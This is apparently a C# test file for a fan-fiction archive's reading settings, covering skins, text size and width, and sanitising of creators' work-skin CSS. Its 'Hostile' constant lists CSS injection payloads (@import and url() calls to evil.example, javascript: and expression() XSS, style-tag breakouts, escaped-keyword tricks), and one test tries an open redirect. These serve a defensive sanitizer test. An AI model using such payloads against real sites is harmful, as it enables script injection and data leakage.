using System.Net;
using Archive.Tests.Infrastructure;

namespace Archive.Tests;

/// <summary>Site skins, the work text's size and width, and creators' work skins (issue 14).</summary>
public class ReadingComfortTests(ArchiveFactory app) : IClassFixture<ArchiveFactory>
{
    const string ChatLog = """
        <p class="chat"><span class="name">lex:</span> you're late</p>
        <p class="chat"><span class="name">clark:</span> I was <em>saving a bus</em></p>
        <div class="cover">Gotcha</div>
        """;

    async Task<int> PostWorkAsync(string title, string? skin = null, ArchiveClient? author = null)
    {
        author ??= await app.NewVisitor().SignUpAsync();
        var fields = new Dictionary<string, string> { ["Title"] = title, ["Fandoms"] = "Reading Comfort", ["TextFormat"] = "Html", ["Body"] = ChatLog };
        if (skin is not null) fields["SkinCss"] = skin;
        var posted = await author.PostWorkAsync(fields);
        Assert.Equal("Work was successfully posted.", posted.Find(".notice")?.TextContent);
        return ArchiveClient.WorkId(posted);
    }

    static Task<Page> ChooseAsync(ArchiveClient visitor, string skin, string textSize = "0", string width = "Normal", bool hideCreatorStyles = false) =>
        visitor.SubmitAsync("/reading", "/reading",
            [new("skin", skin), new("textSize", textSize), new("width", width), .. hideCreatorStyles ? new KeyValuePair<string, string>[] { new("hideCreatorStyles", "true") } : []]);

    static string? SkinOf(Page page) => ClassOf(page, "skin-");

    /// <summary>The reader's choice &lt;html&gt; carries, by its class's prefix ("skin-dark" is "dark"), or null.</summary>
    static string? ClassOf(Page page, string prefix) =>
        page.Document.DocumentElement.ClassList.FirstOrDefault(c => c.StartsWith(prefix, StringComparison.Ordinal))?[prefix.Length..];

    [Fact]
    public async Task A_reader_chooses_a_dark_skin_and_other_guests_still_get_their_own()
    {
        var id = await PostWorkAsync("Skins For Everyone");
        var dark = app.NewVisitor();
        var plain = app.NewVisitor();
        var contrast = app.NewVisitor();

        var chosen = await ChooseAsync(dark, "Dark");
        Assert.Equal("Your reading choices were saved.", chosen.Find(".notice")?.TextContent);
        Assert.Equal("dark", SkinOf(chosen));
        Assert.NotNull(chosen.Find("input[name=skin][value=Dark][checked]"));
        Assert.Equal("high-contrast", SkinOf(await ChooseAsync(contrast, "HighContrast")));

        // The dark guest's page is the first one built, and kept; the next guests each get their own.
        Assert.Equal("dark", SkinOf(await dark.GetAsync($"/works/{id}")));
        Assert.Null(SkinOf(await plain.GetAsync($"/works/{id}")));
        Assert.Equal("high-contrast", SkinOf(await contrast.GetAsync($"/works/{id}")));
        // Now from the cache (no query reaches the database), still each their own.
        Assert.Null(SkinOf(await plain.GetAsync($"/works/{id}")));
        Assert.Equal(0, app.Queries[$"/works/{id}"]);
        Assert.Equal("dark", SkinOf(await dark.GetAsync($"/works/{id}")));
        Assert.Equal(0, app.Queries[$"/works/{id}"]);
        Assert.Equal("high-contrast", SkinOf(await contrast.GetAsync($"/works/{id}")));
        Assert.Null(SkinOf(await app.NewVisitor().GetAsync("/works")));
        Assert.Equal("dark", SkinOf(await dark.GetAsync("/works")));
        // Every page links the skins' stylesheet, which follows the device when nothing is chosen.
        var css = await plain.Http.GetStringAsync((await plain.GetAsync("/works")).Find("link[href^='/css/skins.css']")!.GetAttribute("href"));
        Assert.Contains("prefers-color-scheme: dark", css);

        // A signed-in reader's choice is kept on their account: it follows them to another browser.
        var reader = await app.NewVisitor().SignUpAsync();
        var saved = await reader.SubmitAsync("/preferences", "/preferences", [new("skin", "Dark")]);
        Assert.Equal("Your preferences were saved.", saved.Find(".notice")?.TextContent);
        Assert.Equal("dark", SkinOf(saved));
        var elsewhere = app.NewVisitor();
        var loggedIn = await elsewhere.SubmitAsync("/login", "/login", [new("Login", reader.UserName!), new("Password", "correct horse battery")]);
        Assert.Equal("dark", SkinOf(loggedIn));
        Assert.NotNull((await elsewhere.GetAsync("/preferences")).Find("input[name=skin][value=Dark][checked]"));

        // Signed-in readers share one rendered work page, but never one another's skin.
        var other = await app.NewVisitor().SignUpAsync();
        Assert.Equal("dark", SkinOf(await elsewhere.GetAsync($"/works/{id}")));
        Assert.Null(SkinOf(await other.GetAsync($"/works/{id}")));
        Assert.Equal("dark", SkinOf(await elsewhere.GetAsync($"/works/{id}")));
    }

    [Fact]
    public async Task A_reader_makes_the_work_text_larger_and_narrower()
    {
        var id = await PostWorkAsync("Large Print");
        var reader = app.NewVisitor();
        var work = $"/works/{id}?view_full_work=true";
        var page = await reader.GetAsync(work);
        Assert.Null(ClassOf(page, "text-"));

        page = await reader.SubmitAsync(work, "/reading/adjust", [new("change", "larger")]);
        Assert.Equal(work, page.Url);
        page = await reader.SubmitAsync(work, "/reading/adjust", [new("change", "larger")]);
        page = await reader.SubmitAsync(work, "/reading/adjust", [new("change", "narrow")]);
        Assert.Equal(work, page.Url);
        Assert.Equal("larger-2", ClassOf(page, "text-"));
        Assert.Equal("narrow", ClassOf(page, "width-"));
        Assert.NotNull(page.Find(".reader-controls button[value=narrow][disabled]"));
        Assert.Equal("Larger (+2)", (await reader.GetAsync("/reading")).Find("#textSize option[selected]")?.TextContent);

        // Smaller stops at the smallest size; a link from elsewhere can't send the reader off the archive.
        for (var i = 0; i < 10; i++) page = await reader.SubmitAsync(work, "/reading/adjust", [new("change", "smaller")]);
        Assert.Equal("smaller-2", ClassOf(page, "text-"));
        Assert.NotNull(page.Find(".reader-controls button[value=smaller][disabled]"));
        var away = await reader.PostAsync("/reading/adjust", [new("change", "wide"), new("returnUrl", "https://evil.example/"), new("__RequestVerificationToken", await reader.TokenAsync())]);
        Assert.Equal("/", away.Url);
        Assert.Equal("smaller-2", ClassOf(away, "text-"));
        Assert.Null(ClassOf(away, "width-"));

        // Another guest reads the same cached page at the normal size.
        var other = await app.NewVisitor().GetAsync(work);
        Assert.Null(ClassOf(other, "text-"));
        Assert.Null(ClassOf(other, "width-"));
        // Without a token the choice isn't changed.
        var forged = await app.NewVisitor().Http.PostAsync("/reading/adjust", new FormUrlEncodedContent([new("change", "larger"), new("returnUrl", "/")]));
        Assert.Equal(HttpStatusCode.BadRequest, forged.StatusCode);
    }

    // A broken rule takes the text up to the next block with it (as in browsers), so the rules checked for afterwards
    // follow rules that end cleanly; an unclosed comment ends the CSS.
    const string Hostile = """
        @import url("https://evil.example/steal.css");
        @import 'javascript:alert(1)';
        @media screen { body { display: none } }
        @font-face { font-family: x; src: url(https://evil.example/x.woff) }
        body { display: none; }
        html, .chat { background: red; }
        .a { background: url(javascript:alert(1)); color: blue; }
        .b { width: expression(alert(1)); }
        .c { background-image: \75 rl(javascript:alert(1)); }
        .d { background: u\72l(https://evil.example/x.png); }
        .overlay { position: fixed; top: 0; left: 0; z-index: 99999; }
        .sticky { position: sticky; top: 0 }
        .e { behavior: url(x.htc); -moz-binding: url("https://evil.example/x.xml#xss"); }
        .f::before { content: attr(title); }
        .g::after { content: url(https://evil.example/x.png); }
        .h { col/**/or: red; wid/* */th: expre/**/ssion(alert(1)); }
        .i { font-family: "</style><script>alert(1)</script>"; }
        .o { color: r\65d; font-family: "a\22 }body{display:none}"; }
        </style><script>alert(1)</script>
        <!-- .n { color: red } -->
        #someid, [href^=javascript], a:not(.x) { color: red }
        .j { color: red } } body { display: none }
        .k { background: #fff\3b position: fixed; }
        .l { color: red !important; margin: -9999px }
        .p { background-color: rgb(0,0,0) url(https://evil.example/x.png); content: "x" }
        \40import url(https://evil.example/x.css); .m { color: red }
        .q { color: red; /* unclosed comment hides the rest
        body { display: none }
        """;

    const string Benign = """
        /* The chat log's look. */
        .chat { font-family: "Courier New", Courier, monospace; background-color: #f4f4f4; border: 1px solid #ccc; border-radius: 4px; margin: 0 0 .5em; padding: .25em .5em; }
        .chat .name { font-weight: bold; color: rgb(0, 102, 153); }
        .chat em::after { content: " *"; }
        P.chat > SPAN.name { text-transform: uppercase }
        """;

    [Fact]
    public async Task An_authors_chat_log_skin_styles_only_their_work_and_hostile_css_is_dropped()
    {
        var author = await app.NewVisitor().SignUpAsync();
        var id = await PostWorkAsync("Chat Log", Benign + Hostile, author);
        var plainId = await PostWorkAsync("No Skin", author: author);

        var page = await app.NewVisitor().GetAsync($"/works/{id}");
        var link = page.Find("link[rel=stylesheet][href^='/works/']")?.GetAttribute("href");
        Assert.StartsWith($"/works/{id}/skin.css?v=", link);
        // The work's text, and nothing of the site's, is inside the element the skin is scoped to.
        Assert.NotNull(page.Find("#workskin .chapter .body p.chat span.name"));
        Assert.Null(page.Find("#workskin header.site, #workskin dl.meta, #workskin .reader-controls, #workskin #kudos"));
        Assert.Null((await app.NewVisitor().GetAsync($"/works/{plainId}")).Find("link[href*='skin.css']"));
        Assert.Equal(HttpStatusCode.NotFound, (await app.NewVisitor().Http.GetAsync($"/works/{plainId}/skin.css")).StatusCode);

        var response = await app.NewVisitor().Http.GetAsync(link);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/css", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
        var css = await response.Content.ReadAsStringAsync();

        // The chat log's own look survives, scoped to the work.
        Assert.Contains("#workskin .chat {\n  font-family: \"Courier New\", Courier, monospace;\n  background-color: #f4f4f4;\n  border: 1px solid #ccc;\n  border-radius: 4px;\n  margin: 0 0 .5em;\n  padding: .25em .5em;\n}", css);
        Assert.Contains("#workskin .chat .name {\n  font-weight: bold;\n  color: rgb(0, 102, 153);\n}", css);
        Assert.Contains("#workskin .chat em::after {\n  content: \" *\";\n}", css);
        Assert.Contains("#workskin p.chat > span.name {\n  text-transform: uppercase;\n}", css);
        Assert.Contains("#workskin .a {\n  color: blue;\n}", css);
        Assert.Contains("#workskin .l {\n  color: red;\n  margin: -9999px;\n}", css);
        Assert.Contains("#workskin .p {\n  content: \"x\";\n}", css);
        Assert.EndsWith("#workskin .q {\n  color: red;\n}\n", css);
        // Every rule is the work's, and none of the hostile CSS is left.
        foreach (var line in css.Split('\n').Where(l => l.EndsWith('{')))
            Assert.Matches(@"^#workskin [^,]+(, #workskin [^,]+)* \{$", line);
        foreach (var gone in new[] { "@", "url", "javascript", "expression", "import", "fixed", "sticky", "z-index", "top:", "left:", "behavior", "binding",
                     "attr", "\\", "<", "</style", "script", "body", "html", "background: red", "someid", "[", ":not", "!important", "/*", "col or", "wid th", ".m ", ".n ", ".o ", "evil" })
            Assert.DoesNotContain(gone, css, StringComparison.OrdinalIgnoreCase);

        // The author finds their CSS as they typed it when they edit the work.
        var edit = await author.GetAsync($"/works/{id}/edit");
        Assert.Equal(Benign + Hostile, edit.Find("textarea#SkinCss")?.TextContent);
        // Changing the skin changes its address, so no browser keeps the old one.
        await author.SubmitAsync($"/works/{id}/edit", $"/works/{id}/edit", [new("SkinCss", ".chat { color: green }\n.letter { color: blue")]);
        var changed = (await app.NewVisitor().GetAsync($"/works/{id}")).Find("link[href^='/works/']")?.GetAttribute("href");
        Assert.NotEqual(link, changed);
        // A block left open at the end runs to the end, as in browsers.
        Assert.Equal("#workskin .chat {\n  color: green;\n}\n#workskin .letter {\n  color: blue;\n}\n", await app.NewVisitor().Http.GetStringAsync(changed));
    }

    [Fact]
    public async Task A_reader_hides_the_creators_style()
    {
        var id = await PostWorkAsync("Letters", ".letter { font-style: italic }");
        var guest = app.NewVisitor();
        var page = await guest.GetAsync($"/works/{id}/chapters/1");
        Assert.NotNull(page.Find("link[href*='skin.css']"));
        var hide = page.FindAll(".reader-controls a").Single(a => a.TextContent == "Hide creator's style").GetAttribute("href")!;
        Assert.Equal($"/works/{id}/chapters/1?style=off", hide);

        var hidden = await guest.GetAsync(hide);
        Assert.Null(hidden.Find("link[href*='skin.css']"));
        Assert.Equal($"/works/{id}/chapters/1?style=creator", hidden.FindAll(".reader-controls a").Single(a => a.TextContent == "Show creator's style").GetAttribute("href"));
        // Other guests (from the cache) still see the work as its creator styled it.
        Assert.NotNull((await app.NewVisitor().GetAsync($"/works/{id}/chapters/1")).Find("link[href*='skin.css']"));

        // A reader who never wants creators' styles says so once, in their preferences.
        var reader = await app.NewVisitor().SignUpAsync();
        await reader.SubmitAsync("/preferences", "/preferences", [new("hideCreatorStyles", "true")]);
        var unstyled = await reader.GetAsync($"/works/{id}");
        Assert.Null(unstyled.Find("link[href*='skin.css']"));
        Assert.Contains(unstyled.FindAll(".reader-controls a"), a => a.TextContent == "Show creator's style");
        Assert.NotNull((await reader.GetAsync($"/works/{id}?style=creator")).Find("link[href*='skin.css']"));
        // Another signed-in reader, sharing the rendered page, still gets the style.
        Assert.NotNull((await (await app.NewVisitor().SignUpAsync()).GetAsync($"/works/{id}")).Find("link[href*='skin.css']"));
        // A guest can choose it too, for every work.
        await ChooseAsync(guest, "System", hideCreatorStyles: true);
        Assert.Null((await guest.GetAsync($"/works/{id}")).Find("link[href*='skin.css']"));
    }
}
